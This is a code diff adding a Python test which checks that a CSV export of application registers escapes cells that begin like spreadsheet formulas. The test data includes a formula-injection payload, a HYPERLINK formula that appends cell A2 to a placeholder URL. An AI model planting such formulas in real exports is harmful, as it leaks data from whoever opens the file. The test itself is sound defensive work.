@@ -200,3 +200,22 @@ def test_a_grant_calls_register_mails_references_but_no_names(site_root, members
     mail = OutboxMessage.objects.get(dedupe_key__startswith="register:")
     assert f"{grant.reference_code}-0001" in mail.body_text
     assert "Activist" not in mail.body_text and "Activist" not in mail.body_html
+
+
+def test_register_csv_cells_never_start_like_a_formula():
+    from types import SimpleNamespace
+
+    from applications.services.registers import register_csv
+
+    register = SimpleNamespace(
+        lines=[
+            {
+                "reference": "DC-CFC-2026-001-0001",
+                "bidder": '=HYPERLINK("https://x/?"&A2,"open")',
+                "received_at": "2026-12-03T10:00:00+00:00",
+                "status": "submitted",
+                "files": [],
+            }
+        ]
+    )
+    assert "'=HYPERLINK" in register_csv(register)
